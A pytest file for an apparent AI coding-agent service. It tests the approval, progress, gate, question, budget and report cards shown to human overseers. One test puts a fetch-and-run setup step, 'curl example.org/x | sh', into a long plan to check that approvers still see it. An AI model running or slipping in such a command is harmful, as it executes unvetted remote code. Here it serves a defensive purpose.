"""What cards say, and what they ask, at each point of a project's way."""

from datetime import timedelta

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.cards import forms, labels, pictures
from bot.commands import presses
from core.domain import card_keys, markup
from core.domain.agents import AgentKind
from core.domain.cards import (
    BODY_LIMIT,
    Card,
    Label,
    Link,
    Progress,
    TextFile,
    Tone,
)
from core.domain.events import CardKind
from core.domain.lifecycle import Cause, FeatureStatus, RunStatus, move
from core.domain.people import LOCAL
from core.domain.plan import Plan, PlannedFeature, PlannedPhase, PlannedTask
from core.domain.plan import problems as plan_problems
from core.domain.proof import Verdict
from core.operations import approvals, notices, planners, projects, questions, reminders, tasks
from core.ports.host import BoxLevel
from core.store.chat_tables import OutboxItem
from core.store.tables import Approval, Project, Question
from tests.unit.bot.cards import stage
from tests.unit.bot.cards.stage import NOW, scene, tell


def actions(card: Card) -> list[str]:
    return [button.press.encode() for button in card.buttons]


def button_labels(card: Card) -> list[str]:
    return [button.label for button in card.buttons]


def facts(card: Card) -> dict[str, str]:
    return {field.name: field.value for field in card.fields}


def test_a_plan_asks_for_its_approval(tx: Session) -> None:
    project = stage.begin(tx)
    approval = stage.submit(tx, project)
    tell(tx)
    card = stage.card(tx, CardKind.PLAN)
    assert card.key == "plan:todo-api:1"
    assert card.title == "Plan for todo-api"
    assert "2 phases, 3 features, 5 tasks. A gate after each phase." in card.body
    assert actions(card) == [
        f"{word}:plan:{approval.id}" for word in ("approve", "reject", "details")
    ]
    assert [button.form is not None for button in card.buttons] == [False, True, False]
    assert markup.plain(card.body).endswith(
        "▲ Waits for an approver. Nothing is built before approval. Reminder Fri 10:48."
    )
    assert "Setup runs with the network" in card.body
    assert "- `.venv/bin/pip install -e .`" in card.body
    assert "└─ ○ Endpoints, 2 tasks ← Storage" in card.body
    assert facts(card)["Cost"].endswith("budget $12.00")
    assert facts(card)["Riskiest"] == "5 README"


def test_a_decided_plan_keeps_its_text_and_loses_its_buttons(tx: Session) -> None:
    stage.approve(tx, stage.submit(tx, stage.begin(tx)), by="web:ann")
    tell(tx)
    card = stage.card(tx, CardKind.PLAN)
    assert card.buttons == ()
    assert "2 phases, 3 features, 5 tasks" in card.body
    assert "✓ Approved by ann, 10:48" in markup.plain(card.body)


def test_a_rejected_plan_says_why_and_the_next_one_what_changed(tx: Session) -> None:
    project = stage.begin(tx)
    first = stage.submit(tx, project)
    approvals.reject(tx, first.id, "Use SQLite **only**.", by="web:ann", now=NOW)
    stage.submit(tx, project, Plan(stage.plan().phases[:1], summary="Smaller."))
    tell(tx)
    old = stage.card(tx, CardKind.PLAN, first.subject_id)
    assert "■ Rejected by ann, 10:48: Use SQLite **only**." in markup.plain(old.body)
    new = stage.card(tx, CardKind.PLAN)
    assert new.key == "plan:todo-api:2"
    assert "**Changed** since plan 1\n- Left out: phase Release" in new.body


def test_progress_shows_the_bar_the_agents_and_what_is_waited_for(tx: Session) -> None:
    project = stage.build(tx)
    for number in (1, 2):
        stage.prove(tx, project, number, at=NOW + timedelta(minutes=number))
    coder = stage.claim(tx, project, 3)
    stage.spend(tx, coder, "0.44")
    questions.ask(tx, coder.id, "Which?", (), False, now=NOW)
    tell(tx)
    later = scene(activity={coder.id: "edits app/sessions.py"}, now=NOW + timedelta(minutes=12))
    card = stage.card(tx, CardKind.PROGRESS, markup=later)
    assert card.key == "progress:todo-api"
    assert card.title == "todo-api: building phase 1 of 2"
    assert card.progress is not None
    assert (card.progress.done, card.progress.total) == (2, 5)
    assert "**2 of 5** tasks passing, 40 %" in card.body
    assert "◐ 1 in progress · ○ 2 pending" in card.body
    assert "◐ **1 Foundation** 2/4" in card.body
    assert "◐ **coder-1** Sonnet 3 Create" in card.body
    assert "  edits app/sessions.py · 12 min · $0.44" in card.body
    assert "▲ A question of coder-1 waits for somebody since 10:48" in markup.plain(card.body)
    assert facts(card)["Cost"] == "$0.44 of $12.00, 4 %"
    assert facts(card)["Ready"] == "–"  # two proofs are no pace
    assert actions(card) == [f"{w}:project:{project}" for w in ("pause", "stop", "details", "logs")]
    assert card.fallback.startswith("todo-api: building phase 1 of 2. 2 of 5 passing")


@pytest.mark.parametrize(
    ("then", "wanted"),
    [
        ("pause", ["Resume", "Stop", "Details", "Logs"]),
        ("block", ["Resume", "Stop", "Details", "Logs"]),
    ],
)
def test_progress_offers_what_the_state_allows(tx: Session, then: str, wanted: list[str]) -> None:
    project = stage.build(tx)
    tell(tx)
    if then == "pause":
        projects.pause(tx, project, actor="web:local", now=NOW)
    else:
        projects.block(tx, project, "No credentials.", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.PROGRESS)
    assert button_labels(card) == wanted


def test_the_pace_is_the_median_time_between_proofs(tx: Session) -> None:
    project = stage.build(tx)
    for number, minute in ((1, 0), (2, 10), (3, 20)):
        stage.prove(tx, project, number, at=NOW + timedelta(minutes=minute))
    tell(tx)
    card = stage.card(tx, CardKind.PROGRESS, markup=scene(now=NOW + timedelta(minutes=25)))
    assert facts(card)["Ready"] == "about 11:28, in 15 min"  # 2 left of 10 min, 5 gone


def test_a_stuck_task_says_what_was_tried_and_what_can_be_done(tx: Session) -> None:
    project = stage.build(tx)
    stage.fail(tx, project, 1)
    tell(tx)
    row = stage.task(tx, project, 1)
    card = stage.card(tx, CardKind.STUCK)
    assert card.key == "stuck:todo-api:1"
    assert card.title == "Task 1 is stuck: Schema"
    assert "5 attempts, the same error 5 times. Task 2 waits for it" in card.body
    assert "`$ pytest -q`" in card.body
    assert "**Tried** 5 runs of Sonnet" in card.body
    assert "**Likely** AssertionError: 429 != 200" in card.body
    assert button_labels(card) == ["Retry with Opus", "Retry", "Skip", "Guide"]
    assert actions(card)[0] == f"retry_with_opus:task:1:{project}"
    tasks.guide(tx, row.id, "Set the clock.", by="web:ann", max_attempts=5, now=NOW)
    tell(tx)
    decided = stage.card(tx, CardKind.STUCK)
    assert decided.buttons == ()
    assert "✓ Guided by ann, 10:48: Set the clock." in markup.plain(decided.body)


def test_a_task_that_is_stuck_again_has_a_card_of_its_own(tx: Session) -> None:
    project = stage.build(tx)
    stage.fail(tx, project, 1)
    tasks.retry(
        tx, stage.task(tx, project, 1).id, model=None, by="web:ann", max_attempts=2, now=NOW
    )
    stage.fail(tx, project, 1, times=2)
    tell(tx)
    mine = [key for key in stage.keys(tx) if key.startswith("stuck")]
    assert mine == ["stuck:todo-api:1", "stuck:todo-api:1:2"]
    assert button_labels(stage.card(tx, CardKind.STUCK)) == [
        "Retry with Opus",
        "Retry",
        "Skip",
        "Guide",
    ]


def test_a_gate_shows_what_was_built_and_what_it_took(tx: Session) -> None:
    project = stage.build(tx)
    approval = stage.to_gate(tx, project)
    tell(tx)
    card = stage.card(tx, CardKind.GATE)
    assert card.key == f"gate:todo-api:{approval.id}"
    assert card.title == "Gate: phase 1 Foundation is ready for your decision"
    assert "4 of 4 tasks proved, 2 features landed on main." in card.body
    assert "Phase 2 starts only after approval." in card.body
    assert "**Evidence** on main at `4f2c9e1`" in card.body
    assert "✓ `pytest -q` 48 passed in 3.10s · exit 0" in card.body
    assert (card.progress, len(card.pictures)) == (Progress(4, 4), 1)
    board = pictures.draw(tx, "gate", approval.id)
    assert board is not None
    assert board.count('class="done"') == 4 + 1  # a piece per task, and what green means
    assert pictures.draw(tx, "gate", 99) is None
    assert facts(card)["Diff"] == "31 files, +1,284 −96"
    assert facts(card)["Time"].startswith("1 h, plan")
    assert facts(card)["Retries"] == "0"
    assert button_labels(card) == ["Approve", "Reject", "Details"]
    assert actions(card)[0] == f"approve:gate:{approval.id}"
    stage.approve(tx, approval, by="slack:U1")
    tell(tx)
    after = stage.card(tx, CardKind.GATE)
    assert after.buttons == ()
    assert "✓ Approved by slack:U1, 10:48" in markup.plain(after.body)


def test_practice_invites_to_reject_a_gate_once(tx: Session) -> None:
    project = stage.build(tx, practice=True)
    approval = stage.to_gate(tx, project)
    tell(tx)
    invites = "Reject it once with “Find must ignore accents: cafe finds Café”"
    card = stage.card(tx, CardKind.GATE)
    assert invites in card.body
    (reject,) = [button for button in card.buttons if button.press.label is Label.REJECT]
    assert reject.form == forms.proposing(forms.REASON, labels.PRACTICE_REJECTION)
    assert presses.form(tx, reject.press, LOCAL, now=NOW) == reject.form
    approvals.reject(tx, approval.id, "Paging is missing.", by="web:ann", now=NOW)
    tell(tx)
    assert invites not in stage.card(tx, CardKind.GATE).body


def test_a_rejected_gate_says_why_and_what_comes_of_it(tx: Session) -> None:
    project = stage.build(tx)
    approval = stage.to_gate(tx, project)
    approvals.reject(tx, approval.id, "Paging is missing.", by="web:ann", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.GATE)
    assert card.buttons == ()
    assert "■ Rejected by ann, 10:48: Paging is missing. It becomes rework." in markup.plain(
        card.body
    )
    progress = stage.card(tx, CardKind.PROGRESS)
    assert "◐ **rework** of phase 1 is being planned" in progress.body


def test_progress_says_what_the_service_does_itself(tx: Session) -> None:
    project = stage.build(tx)
    for number in (1, 2, 3, 4):
        stage.prove(tx, project, number)
    row = stage.feature(tx, project, "Storage")
    move(row, FeatureStatus.LANDING, by=Cause.SERVICE)
    tell(tx)
    clean = "setup and checks in a clean checkout"
    assert f"◐ **landing** Storage: {clean}" in stage.card(tx, CardKind.PROGRESS).body
    move(row, FeatureStatus.COMPLETED, by=Cause.SERVICE)
    stage.land(tx, project, "Endpoints")
    tell(tx)
    body = stage.card(tx, CardKind.PROGRESS).body
    assert "◐ **gate** of phase 1: every check on main" in body


def test_a_gate_names_what_proves_less_than_it_seems(tx: Session) -> None:
    project = stage.build(tx)
    stage.prove(tx, project, 1, Verdict.GREEN_BEFORE)
    stage.prove(tx, project, 2, own_tests=("tests/test_store.py",))
    stage.prove(tx, project, 3, Verdict.VOUCHED)
    tasks.skip(tx, stage.task(tx, project, 4).id, cause=Cause.PERSON, by="web:ann", now=NOW)
    stage.land(tx, project, "Storage")
    stage.land(tx, project, "Endpoints")
    stage.open_gate(tx, project, red=True)
    tell(tx)
    body = stage.card(tx, CardKind.GATE).body
    assert body.startswith("2 of 4 tasks proved, 2 features landed on main.")
    assert "▲ Green before the work began, so proved by less: task 1" in body
    assert "▲ Proved by tests of their own run: task 2" in body
    assert "▲ A person vouches, no check of their own proves it: task 3" in body
    assert "■ Task 4 Update skipped: nothing proves it" in body
    assert "■ `pytest -q` 1 failed · exit 1" in body


def test_a_landed_feature_is_one_line_with_its_evidence(tx: Session) -> None:
    project = stage.build(tx, practice=True)
    for number in (1, 2):
        stage.prove(tx, project, number)
    stage.land(tx, project, "Storage")
    tell(tx)
    card = stage.card(tx, CardKind.LANDED)
    assert card.key == "landed:todo-api:storage"
    assert card.body == (
        "✓ **todo-api** Storage landed · 2 of 2 tasks, 3 checks green, `4f2c9e1` · **$0.00**"
        " · practice"
    )


def test_what_failed_and_was_given_up_was_not_mended(tx: Session) -> None:
    project = stage.build(tx)
    stage.fail(tx, project, 1, times=2)
    stage.prove(tx, project, 1)
    stage.fail(tx, project, 2)
    tasks.skip(tx, stage.task(tx, project, 2).id, cause=Cause.PERSON, by="web:ann", now=NOW)
    stage.land(tx, project, "Storage")
    stage.fail(tx, project, 3, times=1)
    stage.prove(tx, project, 3, Verdict.VOUCHED)
    stage.prove(tx, project, 4)
    stage.land(tx, project, "Endpoints")
    tell(tx)
    storage, endpoints = (
        stage.card(tx, CardKind.LANDED, stage.feature(tx, project, name).id).body
        for name in ("Storage", "Endpoints")
    )
    assert "1 of 2 tasks, 3 checks green" in storage
    assert storage.endswith("2 failed checks mended")
    assert "mended" not in endpoints


def test_what_is_skipped_is_not_done(tx: Session) -> None:
    project = stage.build(tx)
    for number in (1, 2, 3):
        stage.prove(tx, project, number)
    tasks.skip(tx, stage.task(tx, project, 4).id, cause=Cause.PERSON, by="web:ann", now=NOW)
    stage.land(tx, project, "Storage")
    stage.land(tx, project, "Endpoints")
    gate = stage.open_gate(tx, project)
    tell(tx)
    progress = stage.card(tx, CardKind.PROGRESS)
    assert progress.body.startswith("**3 of 5** tasks passing, 60 %\n■ 1 skipped · ○ 1 pending")
    assert progress.progress == Progress(3, 5)
    assert stage.card(tx, CardKind.GATE).progress == Progress(3, 4)
    stage.approve(tx, gate)
    stage.prove(tx, project, 5)
    stage.land(tx, project, "Docs")
    stage.approve(tx, stage.open_gate(tx, project, 2))
    projects.complete(tx, project, stage.COMMIT, now=NOW)
    tell(tx)
    for kind in (CardKind.PROGRESS, CardKind.REPORT):
        assert stage.card(tx, kind).progress == Progress(4, 5)
    assert "**4 of 5** tasks passing, 80 %" in stage.card(tx, CardKind.PROGRESS).body


def ask(tx: Session, options: tuple[str, ...], *, multiple: bool = False) -> int:
    project = stage.build(tx)
    coder = stage.claim(tx, project, 1)
    number = questions.ask(tx, coder.id, "Which one?", options, multiple, now=NOW)
    tell(tx)
    return number


def test_one_choice_is_a_button_each_and_own_words(tx: Session) -> None:
    number = ask(tx, ("SQLite", "PostgreSQL"))
    card = stage.card(tx, CardKind.QUESTION)
    assert card.key == f"question:todo-api:{number}"
    assert card.title == "coder-1 asks about task 1 Schema"
    assert button_labels(card) == ["SQLite", "PostgreSQL", "Answer"]
    assert actions(card) == [
        f"answer:question:{number}:0", f"answer:question:{number}:1", f"answer:question:{number}",
    ]  # fmt: skip
    assert card.inputs == ()
    assert [button.form is None for button in card.buttons] == [True, True, False]


def test_above_five_options_a_select_stands_in_the_card(tx: Session) -> None:
    number = ask(tx, tuple("abcdef"))
    card = stage.card(tx, CardKind.QUESTION)
    assert button_labels(card) == ["Answer"]
    assert card.buttons[0].form is None  # it submits what was chosen
    [choice] = card.inputs
    assert (choice.name, choice.kind) == (f"answer:question:{number}:chosen", "select")
    assert [option.label for option in choice.options] == list("abcdef")


def test_options_that_a_button_would_cut_are_written_out_with_numbers_where_alike(
    tx: Session,
) -> None:
    alike = tuple(f"{'the same words ' * 6}{ending}" for ending in ("here", "there"))
    number = ask(tx, alike)
    card = stage.card(tx, CardKind.QUESTION)
    assert button_labels(card) == [f"1. {alike[0]}", f"2. {alike[1]}", "Answer"]
    assert actions(card)[1] == f"answer:question:{number}:1"
    assert markup.plain(card.body).splitlines()[2:4] == [f"- 1. {alike[0]}", f"- 2. {alike[1]}"]
    questions.answer(tx, number, alike[1], by="web:ann", now=NOW)
    tell(tx)
    assert f"✓ **{alike[1]}**" in stage.card(tx, CardKind.QUESTION).body


def test_a_long_answer_stands_whole_beside_the_card(tx: Session) -> None:
    number = ask(tx, ())
    assert stage.card(tx, CardKind.QUESTION).whole is None
    answer = "One line of it.\n" * 300
    questions.answer(tx, number, answer, by="web:ann", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.QUESTION)
    assert card.whole == TextFile("question.md", f"Which one?\n\nAnswer: {answer}")
    assert "Answered by ann" in card.body


def test_several_choices_are_one_multi_select_that_answer_submits(tx: Session) -> None:
    number = ask(tx, ("a", "b"), multiple=True)
    card = stage.card(tx, CardKind.QUESTION)
    assert [each.name for each in card.inputs] == [f"answer:question:{number}:chosen"]
    assert card.inputs[0].kind == "multi_select"
    assert actions(card) == [f"answer:question:{number}"]
    assert card.buttons[0].form is None


def test_free_text_is_a_form_of_one_input(tx: Session) -> None:
    ask(tx, ())
    card = stage.card(tx, CardKind.QUESTION)
    assert button_labels(card) == ["Answer"]
    form = card.buttons[0].form
    assert form is not None
    assert [(each.kind.value, each.required) for each in form.inputs] == [("text", True)]


@pytest.mark.parametrize("answer", ["mine", "**mine** `x`", "- one\n  two, <b>*", "[a](/b) \\"])
def test_an_answered_question_shows_the_answer_and_who_gave_it(tx: Session, answer: str) -> None:
    number = ask(tx, ("a", "b"), multiple=True)
    questions.answer(tx, number, answer, by="web:ann", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.QUESTION)
    assert card.buttons == ()
    assert card.inputs == ()
    assert "Answered by ann, " in card.body
    assert all(line in card.body for line in answer.split("\n"))
    lines = markup.parse(card.body)
    bold = [s.text for line in lines for s in line.spans if s.look == "bold"]
    verbatim = [line.text for line in lines if line.verbatim]
    assert "\n".join(bold or verbatim) == answer


def test_a_withdrawn_question_says_why_and_takes_no_answer(tx: Session) -> None:
    number = ask(tx, ("a", "b"), multiple=True)
    tell(tx)
    assert stage.card(tx, CardKind.QUESTION).buttons
    asked = questions.unanswered(tx, Question.id == number)
    questions.withdraw(tx, asked, "the run that asked is over", by="service", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.QUESTION)
    assert (card.buttons, card.inputs) == ((), ())
    assert "■ Withdrawn: the run that asked is over, " in card.body


def test_the_interviewer_may_be_told_to_decide(tx: Session) -> None:
    project = stage.begin(tx)
    asker = stage.run(tx, project, AgentKind.INTERVIEWER)
    number = questions.ask(tx, asker.id, "Which?", ("a", "b"), False, now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.QUESTION)
    assert button_labels(card) == ["a", "b", "Answer", "Just decide"]
    assert actions(card)[-1] == f"just_decide:question:{number}"
    assert "“just decide” lets me choose." in card.body


def test_a_spent_budget_can_be_raised(tx: Session) -> None:
    project = stage.build(tx)
    coder = stage.claim(tx, project, 1)
    stage.spend(tx, coder, "7.00", message="m1")
    stage.spend(tx, coder, "5.00", message="m2")
    tell(tx)
    mine = [key for key in stage.keys(tx) if key.startswith("budget")]
    assert mine == ["budget:todo-api:1", "budget:todo-api:2"]
    rows = tx.scalars(select(OutboxItem).where(OutboxItem.kind == CardKind.BUDGET)).all()
    first = stage.card(tx, CardKind.BUDGET, rows[0].subject_id)
    assert first.title == "todo-api has spent 50 % of its budget"
    assert first.buttons == ()
    assert first.links == (Link("Open the newer card", "budget:todo-api:2"),)
    reached = stage.card(tx, CardKind.BUDGET)
    assert reached.title == "todo-api has spent its budget"
    assert actions(reached) == [f"raise_budget:budget:{project}", f"stop:project:{project}"]
    assert "**$12.00** of $12.00" in reached.body


def test_a_wait_for_the_account_says_until_when_and_that_it_was(tx: Session) -> None:
    project = stage.build(tx)
    other = stage.begin(tx, "other")
    until = stage.limit(tx, project, seconds=120)
    tell(tx)
    keys = [key for key in stage.keys(tx) if key.startswith("limit")]
    assert keys == ["limit:todo-api:1", "limit:other:1"]  # it concerns every project at work
    assert stage.slug(tx, other) == "other"
    card = stage.card(tx, CardKind.LIMIT, markup=scene(now=NOW))
    assert "resume by themselves" in card.body
    assert card.buttons == ()
    progress = stage.card(tx, CardKind.PROGRESS, markup=scene(now=NOW))
    assert "for the account's limit; resumes by itself" in progress.body
    over = stage.card(tx, CardKind.LIMIT, markup=scene(now=until + timedelta(seconds=1)))
    assert over.title == "other waited for the account's limit"
    assert "✓ Over" in over.body


def test_a_report_says_what_a_person_vouched_for(tx: Session) -> None:
    project = stage.build(tx)
    stage.approve(tx, stage.to_gate(tx, project))
    stage.prove(tx, project, 5, Verdict.VOUCHED)
    stage.land(tx, project, "Docs")
    stage.approve(tx, stage.open_gate(tx, project, 2))
    projects.complete(tx, project, stage.COMMIT, now=NOW + timedelta(hours=2))
    tell(tx)
    card = stage.card(tx, CardKind.REPORT)
    assert "5 of 5 tasks passing, 1 of them by a person's word." in card.body
    assert "each proved" not in card.body


def test_a_completed_project_reports(tx: Session) -> None:
    project = stage.build(tx)
    stage.approve(tx, stage.to_gate(tx, project))
    stage.prove(tx, project, 5)
    stage.land(tx, project, "Docs")
    stage.approve(tx, stage.open_gate(tx, project, 2))
    projects.complete(tx, project, stage.COMMIT, now=NOW + timedelta(hours=2))
    tell(tx)
    card = stage.card(tx, CardKind.REPORT)
    assert card.key == "report:todo-api:1"
    assert card.title == "todo-api is complete"
    assert "5 of 5 tasks passing, each proved by its own checks." in card.body
    assert "`.autocoder/report.md`" in card.body
    assert facts(card)["Gates"] == "2 of 2 approved"
    assert facts(card)["Time"] == "2 h"
    assert card.tone is Tone.SUCCESS
    progress = stage.card(tx, CardKind.PROGRESS)
    assert progress.title == "todo-api: complete"
    assert button_labels(progress) == ["Details", "Logs"]


def test_a_report_that_is_cut_short_has_all_of_it_beside_it(tx: Session) -> None:
    project = stage.build(tx)
    stage.approve(tx, stage.to_gate(tx, project))
    stage.prove(tx, project, 5)
    stage.land(tx, project, "Docs")
    gate = stage.open_gate(tx, project, 2)
    gate.checks = [
        {"command": f"test {n}", "exit_code": 0, "output": "", "seconds": 1.0} for n in range(15)
    ]
    stage.approve(tx, gate)
    projects.complete(tx, project, stage.COMMIT, now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.REPORT)
    assert "`test 3`" in card.body
    assert "`test 4`" not in card.body
    assert "and 11 more checks: see `completed.txt`" in card.body
    assert card.whole is not None
    assert card.whole.name == "completed.txt"
    assert card.whole.text.startswith("todo-api is complete\n\n✓ Storage landed, 4f2c9e1\n")
    assert card.whole.text.count("✓ test ") == 15
    gate.checks = gate.checks[:4]
    tx.flush()
    assert stage.card(tx, CardKind.REPORT).whole is None


def test_a_blocked_project_says_why_until_somebody_goes_on(tx: Session) -> None:
    project = stage.build(tx)
    projects.block(tx, project, "401: the key is not valid.", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.ERROR)
    assert card.title == "todo-api is blocked"
    assert "401: the key is not valid." in card.body
    assert "Resume" in button_labels(card)
    projects.resume(tx, project, actor="web:ann", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.ERROR)
    assert card.buttons == ()
    assert "✓ Resumed by ann, 10:48" in markup.plain(card.body)


def test_a_planner_that_gives_up_leaves_what_was_wrong_with_its_plan(tx: Session) -> None:
    project = stage.begin(tx)
    planner = stage.run(tx, project, AgentKind.PLANNER)
    wrong = [f"Task {n!s} of **{n}** has no check." for n in range(1, 10)]
    planners.plan_refused(tx, planner.id, wrong, now=NOW)
    move(planner, RunStatus.ENDED, by=Cause.SERVICE)
    planner.words = "five refused plans"
    planners.block(tx, project, "The planner ended 3 times without a plan.", now=NOW)
    tell(tx)
    card = stage.card(tx, CardKind.ERROR)
    told = markup.plain(card.body)
    assert "The last: five refused plans\nThe last plan was refused:\n" in told
    assert told.count("has no check.") == 5
    assert "- Task 5 of **5** has no check.\n- and 4 more" in told
    assert "Resume" in button_labels(card)


def test_every_card_says_practice_and_a_weak_sandbox(tx: Session) -> None:
    project = stage.build(tx, practice=True)
    stage.fail(tx, project, 5)
    stage.to_gate(tx, project)
    tell(tx)
    weak = scene(box=BoxLevel.NONE)
    for kind in (CardKind.PROGRESS, CardKind.PLAN, CardKind.STUCK, CardKind.GATE, CardKind.LANDED):
        body = stage.card(tx, kind, markup=weak).body.lower()
        assert "practice" in body, kind
        assert "no sandbox" in body, kind


def test_reminders_go_out_once_per_interval_and_end_with_the_decision(tx: Session) -> None:
    project = stage.build(tx)
    approval = stage.to_gate(tx, project)
    tell(tx)
    day = timedelta(days=1)
    opened = approval.opened_at
    assert not reminders.due(tx, day, now=opened + day - timedelta(seconds=1))
    assert reminders.due(tx, day, now=opened + day)
    for now in (opened + day, opened + day, opened + 5 * day):  # five days away: one reminder
        reminders.remind(tx, day, now=now)
    posted = [key for key in stage.keys(tx) if "reminder" in key]
    assert posted == [f"gate:todo-api:{approval.id}:reminder-{n}" for n in (1, 2)]
    card = stage.card(tx, CardKind.GATE)
    assert card.title == "Reminder: the gate of phase 1 waits since 11:48"
    assert button_labels(card) == ["Approve", "Reject", "Details"]
    stage.approve(tx, tx.get_one(Approval, approval.id))
    tell(tx)
    assert stage.card(tx, CardKind.GATE).buttons == ()
    assert not reminders.due(tx, day, now=opened + 9 * day)


def test_a_project_may_be_called_reminder(tx: Session) -> None:
    stage.submit(tx, stage.begin(tx, "reminder-1"))
    tell(tx)
    card = stage.card(tx, CardKind.PLAN)
    assert card.key == "plan:reminder-1:1"
    assert card.title == "Plan for reminder-1"
    assert "2 phases, 3 features" in card.body


def test_a_long_plan_still_shows_what_approving_allows(tx: Session) -> None:
    project = stage.begin(tx)
    features = tuple(
        PlannedFeature(f"{n} {'very ' * 15}long", (PlannedTask(f"{n}", checks=("true",)),))
        for n in range(60)
    )
    tail = "&& curl example.org/x | sh"
    setup = (*(f"pip install {'x' * 75}{n}" for n in range(9)), f"make {'y' * 300} {tail}")
    assert not plan_problems(Plan((PlannedPhase("All", features),), setup=setup))
    stage.submit(tx, project, Plan((PlannedPhase("All", features),), setup=setup))
    tell(tx)
    card = stage.card(tx, CardKind.PLAN)
    assert len(card.body) <= BODY_LIMIT
    assert "more lines: see details" in card.body
    assert card.body.count("`pip install") == 9
    assert f"{'y' * 300} {tail}`\n▲ Waits for an approver." in card.body
    assert card.pictures == ()


def test_an_entry_is_told_once_and_many_entries_are_one_wish(tx: Session) -> None:
    project = stage.build(tx)
    tell(tx)
    wanted = {row.key: row.wanted for row in tx.scalars(select(OutboxItem))}
    assert not notices.pending(tx)
    tell(tx)
    assert {row.key: row.wanted for row in tx.scalars(select(OutboxItem))} == wanted
    for number in (1, 2):
        stage.prove(tx, project, number)  # four entries
    assert notices.pending(tx)
    tell(tx)
    row = tx.scalars(select(OutboxItem).where(OutboxItem.key == "progress:todo-api")).one()
    assert row.wanted == wanted["progress:todo-api"] + 1


def test_threads_hang_on_the_root_and_progress_stands_in_the_channel(tx: Session) -> None:
    project = stage.build(tx)
    stage.fail(tx, project, 1)
    tell(tx)
    rows = {row.kind: row for row in tx.scalars(select(OutboxItem))}
    assert rows[CardKind.INTERVIEW].thread_key is None
    assert rows[CardKind.PROGRESS].thread_key is None
    for kind in (CardKind.SPEC, CardKind.PLAN, CardKind.STUCK):
        assert rows[kind].thread_key == card_keys.interview(tx.get_one(Project, project).slug)
